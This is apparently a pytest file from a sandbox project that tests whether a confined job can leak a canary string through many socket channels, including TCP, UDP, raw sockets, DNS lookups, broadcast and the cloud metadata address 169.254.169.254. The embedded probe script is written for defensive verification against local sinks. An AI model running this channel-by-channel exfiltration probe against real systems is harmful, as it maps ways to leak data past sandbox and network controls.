"""T3: a job tries to send a frame out by every channel that a socket can be."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from darkroom.adapters.sandbox.plan import Layer
from tests.attack.canaries import search, word
from tests.attack.sinks import UNIX, Sinks
from tests.sandbox.workshop import Workshop


# Each channel in its own attempt; `made` are those whose socket could be made at all.
CHANNELS = r"""
import socket, subprocess, urllib.request
S, D, R = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
to = ADDRESSES
frame = FRAME.encode()
made = []

def try_(name, family, kind, address=None, protocol=0):
    try:
        with socket.socket(family, kind, protocol) as one:
            one.settimeout(0.3)
            made.append(name)
            if address is not None:
                one.connect(tuple(address) if isinstance(address, list) else address)
                one.send(frame)
    except OSError:
        pass

for name, address in to.items():
    family = socket.AF_UNIX if isinstance(address, str) else (
        socket.AF_INET6 if "6" in name else socket.AF_INET)
    kind = D if "udp" in name or "any" in name or "datagram" in name else S
    try_(name, family, kind, address)
try_("metadata", socket.AF_INET, S, ["169.254.169.254", 80])
try_("dns", socket.AF_INET, D, ["127.0.0.53", 53])
try_("broadcast", socket.AF_INET, D, ["255.255.255.255", 9])
try_("multicast", socket.AF_INET, D, ["224.0.0.251", 5353])
try_("icmp", socket.AF_INET, R, ["127.0.0.1", 0], 1)
try_("netlink", 16, R)
try_("packet", 17, R)
try_("vsock", 40, S)
try_("bluetooth", 31, R)
try_("can", 29, R)
try_("alg", 38, 5)
try_("sctp", socket.AF_INET, S, None, 132)
try:
    socket.getaddrinfo(frame.decode() + ".example.org", 80); made.append("resolver")
except OSError:
    pass
try:
    urllib.request.urlopen(f"http://127.0.0.1:{to['tcp'][1]}/{frame.decode()}", timeout=0.3)
except OSError:
    pass
n = sum(name not in HARMLESS for name in made)
print(made)
return {'result': {'n': n}}
"""


@pytest.fixture
def sinks(tmp_path: Path) -> Iterator[Sinks]:
    with Sinks(tmp_path) as made:
        yield made


def sending(sinks: Sinks) -> str:
    return (
        CHANNELS.replace("ADDRESSES", repr(sinks.addresses))
        .replace("FRAME", repr(word("frame")))
        .replace("HARMLESS", repr(UNIX))
    )


@pytest.mark.attack("T3", control="off")
def test_without_walls_a_frame_reaches_the_sinks(workshop: Workshop, sinks: Sinks) -> None:
    workshop.run(sending(sinks), without=("network", "system calls"))
    received = sinks.received()

    assert {"tcp", "udp", "any", "abstract", "abstract datagram"} <= received.keys()
    for name in ("tcp", "udp", "abstract"):
        assert {"frame"} == {f.planted for f in search(received[name])}, name


@pytest.mark.attack("T3", control="on")
def test_no_channel_leads_out(workshop: Workshop, sinks: Sinks) -> None:
    outcome, out = workshop.run(sending(sinks))

    assert outcome.status == "done", outcome.log
    assert sinks.received() == {}
    made = json.loads((out / "result").read_bytes())["n"]
    assert made == 0, outcome.log  # only unix sockets could be made at all


@pytest.mark.attack("T3", "T29", control="on")
@pytest.mark.parametrize("wall", ["network", "system calls"])
def test_each_of_the_two_walls_alone_keeps_addresses_shut(
    workshop: Workshop, sinks: Sinks, wall: Layer
) -> None:
    workshop.run(sending(sinks), without=(wall,))

    # Names in the abstract space are the namespace's business alone.
    assert sinks.received().keys() <= {"abstract", "abstract datagram"}
